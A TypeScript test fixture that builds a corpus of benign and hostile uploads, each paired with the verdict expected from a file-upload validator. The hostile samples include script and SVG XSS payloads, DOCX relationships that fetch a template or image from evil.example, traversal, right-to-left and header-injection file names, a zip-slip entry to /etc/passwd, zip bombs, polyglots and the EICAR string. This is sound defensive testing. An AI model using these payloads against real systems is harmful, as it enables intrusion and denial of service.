import sharp from 'sharp'
import { MAX_FILE_BYTES } from '~/files/rules'
import { letter, relationships, workbook, type ZipEntry, zip } from './office'

export type Sample = {
  what: string
  fileName: string
  declared: string
  bytes: Buffer
  /** How the product answers. */
  expected: 'taken' | 'file_type' | 'file_size' | 'file_empty' | 'file_content'
  /** The name under which it is given back, where it is not the one it was sent with. */
  keptAs?: string
}

/** The test file of every scanner, in two pieces so that no scanner takes this source for it. */
export const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-', 'STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('')

export const PDF = '%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n'
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'
const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'

const picture = () => sharp({ create: { width: 40, height: 30, channels: 3, background: '#0033a0' } })

/** Where the picture was taken, in words that can be looked for. */
export const PLACE = 'Quince-Orchard-46.2044N-6.1432E'

export const photoWithPlace = (): Promise<Buffer> =>
  picture()
    .withExif({
      IFD0: { ImageDescription: PLACE, Make: 'Camera' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '46/1 12/1 15/1', GPSLongitudeRef: 'E', GPSLongitude: '6/1 8/1 35/1' },
    })
    .withXmp(`<x:xmpmeta xmlns:x="adobe:ns:meta/"><place>${PLACE}</place></x:xmpmeta>`)
    .jpeg()
    .toBuffer()

/** A picture of a few bytes that says it is 60,000 points wide and high. */
function hugePng(small: Buffer): Buffer {
  const lying = Buffer.from(small)
  lying.writeUInt32BE(60_000, 16)
  lying.writeUInt32BE(60_000, 20)
  return lying
}

const office = (entries: readonly ZipEntry[], options?: Parameters<typeof zip>[1]) => zip(entries, options)

/** Forty files: what people send, and what they should not. */
export async function fileCorpus(): Promise<Sample[]> {
  const png = await picture().png().toBuffer()
  const jpeg = await picture().jpeg().toBuffer()
  const webp = await picture().webp().toBuffer()
  const located = await photoWithPlace()
  const script = '<script>alert(1)</script>'
  const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
  const template = relationships(
    '<Relationship Id="a" Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>',
  )
  const hidden = relationships(
    `<Relationship Id="a" Type="http://x/image" Target="https://evil.example/p.png" TargetMode='&#69;xternal' />`,
  )
  const link = relationships(
    '<Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.org/" TargetMode="External"/>',
  )
  const sample = (
    what: string,
    fileName: string,
    declared: string,
    content: string | Buffer,
    expected: Sample['expected'],
    keptAs?: string,
  ): Sample => ({ what, fileName, declared, bytes: Buffer.from(content), expected, ...(keptAs ? { keptAs } : {}) })

  return [
    sample('a document', 'register.pdf', 'application/pdf', PDF, 'taken'),
    sample('a document whose type the browser does not know', 'a.PDF', 'application/octet-stream', PDF, 'taken'),
    sample('a picture', 'chart.png', 'image/png', png, 'taken'),
    sample('a photograph', 'photo.jpg', 'image/jpeg', jpeg, 'taken'),
    sample('a photograph that says where it was taken', 'place.jpeg', 'image/jpeg', located, 'taken'),
    sample('a picture in a new format', 'photo.webp', 'image/webp', webp, 'taken'),
    sample('a table', 'numbers.csv', 'text/csv', 'cycle,value\r\n2026-1,1120\r\n', 'taken'),
    sample(
      'a table, as a spreadsheet program calls it',
      'n.csv',
      'application/vnd.ms-excel',
      'الدورة;value\n1;2\n',
      'taken',
    ),
    sample('a workbook', 'numbers.xlsx', XLSX, office(workbook()), 'taken'),
    sample('a letter', 'letter.docx', DOCX, office(letter()), 'taken'),
    sample(
      'a letter with a link',
      'l.docx',
      DOCX,
      office(letter([{ name: 'word/_rels/document.xml.rels', content: link }])),
      'taken',
    ),
    sample('a path for a name', '../../etc/cron.d/job.pdf', 'application/pdf', PDF, 'taken', 'job.pdf'),
    sample('a path of another system', 'C:\\Windows\\x.pdf', 'application/pdf', PDF, 'taken', 'x.pdf'),
    sample('a name written from right to left', 'gpj.\u202efdp.pdf', 'application/pdf', PDF, 'taken', 'gpj.fdp.pdf'),
    sample(
      'a name with quotes and a line break',
      'a"\r\nX-Evil: 1\r\n.pdf',
      'application/pdf',
      PDF,
      'taken',
      'aX-Evil 1.pdf',
    ),
    sample(
      'a name of a thousand letters',
      `${'x'.repeat(1000)}.pdf`,
      'application/pdf',
      PDF,
      'taken',
      `${'x'.repeat(110)}.pdf`,
    ),
    sample('the test file of scanners, as a table', 'eicar.csv', 'text/csv', EICAR, 'taken'),
    sample('an empty file', 'empty.pdf', 'application/pdf', '', 'file_empty'),
    sample(
      'one byte too many',
      'big.pdf',
      'application/pdf',
      Buffer.concat([Buffer.from(PDF), Buffer.alloc(MAX_FILE_BYTES + 1 - PDF.length, 0x20)]),
      'file_size',
    ),
    sample('a page', 'page.html', 'text/html', script, 'file_type'),
    sample('a drawing', 'drawing.svg', 'image/svg+xml', svg, 'file_type'),
    sample('markup', 'data.xml', 'text/xml', '<?xml version="1.0"?><a/>', 'file_type'),
    sample('an archive', 'all.zip', 'application/zip', zip([{ name: 'a.txt' }]), 'file_type'),
    sample(
      'a workbook for macros',
      'macro.xlsm',
      'application/vnd.ms-excel.sheet.macroEnabled.12',
      office(workbook()),
      'file_type',
    ),
    sample('a program', 'setup.exe', 'application/octet-stream', 'MZ', 'file_type'),
    sample('a page called a table', 'page.csv', 'text/csv', `  <!DOCTYPE html>${script}`, 'file_content'),
    sample('a drawing called a picture', 'drawing.png', 'image/png', svg, 'file_content'),
    sample('a document called a table', 'doc.csv', 'text/csv', `a,b\n${PDF}`, 'file_content'),
    sample('bytes called a table', 'numbers.csv', 'text/csv', Buffer.from([0x61, 0, 0x62]), 'file_content'),
    sample('a program called a document', 'register.pdf', 'application/pdf', 'MZ\x90\0', 'file_content'),
    sample('a document declared as a page', 'register.pdf', 'text/html', PDF, 'file_content'),
    sample(
      'a document that is an archive too',
      'both.pdf',
      'application/pdf',
      Buffer.concat([Buffer.from(PDF), zip([{ name: 'x.exe', content: 'MZ' }])]),
      'file_content',
    ),
    sample('a picture with forty times forty million points', 'huge.png', 'image/png', hugePng(png), 'file_content'),
    sample('a picture cut off', 'half.jpg', 'image/jpeg', jpeg.subarray(0, jpeg.length / 2), 'file_content'),
    sample(
      'a workbook with a program',
      'macro.xlsx',
      XLSX,
      office(workbook([{ name: 'xl/vbaProject.bin', content: 'x' }])),
      'file_content',
    ),
    sample(
      'a workbook for macros by its contents',
      'm.xlsx',
      XLSX,
      office(workbook([], 'application/vnd.ms-excel.sheet.macroEnabled.main+xml')),
      'file_content',
    ),
    sample(
      'a letter that fetches its template',
      't.docx',
      DOCX,
      office(letter([{ name: 'word/_rels/settings.xml.rels', content: template }])),
      'file_content',
    ),
    sample(
      'a letter that hides what it fetches',
      'h.docx',
      DOCX,
      office(letter([{ name: 'word/_rels/document.xml.rels', content: hidden }])),
      'file_content',
    ),
    sample(
      'a workbook that swells, by its list',
      'bomb.xlsx',
      XLSX,
      office(workbook([{ name: 'xl/a.xml', content: 'a', claims: { expanded: 4_000_000_000 } }])),
      'file_content',
    ),
    sample(
      'a workbook that swells, a hundredfold',
      'ratio.xlsx',
      XLSX,
      office(workbook([{ name: 'xl/a.xml', content: Buffer.alloc(8_000_000) }])),
      'file_content',
    ),
    sample(
      'a workbook of two thousand parts',
      'parts.xlsx',
      XLSX,
      office(workbook(Array.from({ length: 2_000 }, (_, n) => ({ name: `xl/${n}.xml` })))),
      'file_content',
    ),
    sample(
      'a workbook whose parts share their bytes',
      'shared.xlsx',
      XLSX,
      office(workbook([{ name: 'xl/a.xml', content: 'a', claims: { offset: 0 } }])),
      'file_content',
    ),
    sample(
      'a workbook that leaves its folder',
      'slip.xlsx',
      XLSX,
      office(workbook([{ name: '../../etc/passwd', content: 'x' }])),
      'file_content',
    ),
    sample(
      'a workbook with a part twice',
      'twice.xlsx',
      XLSX,
      office(workbook([{ name: 'xl/workbook.xml', content: '<other/>' }])),
      'file_content',
    ),
    sample(
      'a locked workbook',
      'locked.xlsx',
      XLSX,
      office(workbook([{ name: 'xl/a.xml', content: 'a', claims: { encrypted: true } }])),
      'file_content',
    ),
    sample(
      'a letter behind something else',
      'behind.docx',
      DOCX,
      office(letter(), { before: 'GIF89a' }),
      'file_content',
    ),
    sample('a letter called a workbook', 'letter.xlsx', XLSX, office(letter()), 'file_content'),
    sample('a broken archive', 'broken.docx', DOCX, 'PK\x03\x04 broken', 'file_content'),
  ]
}
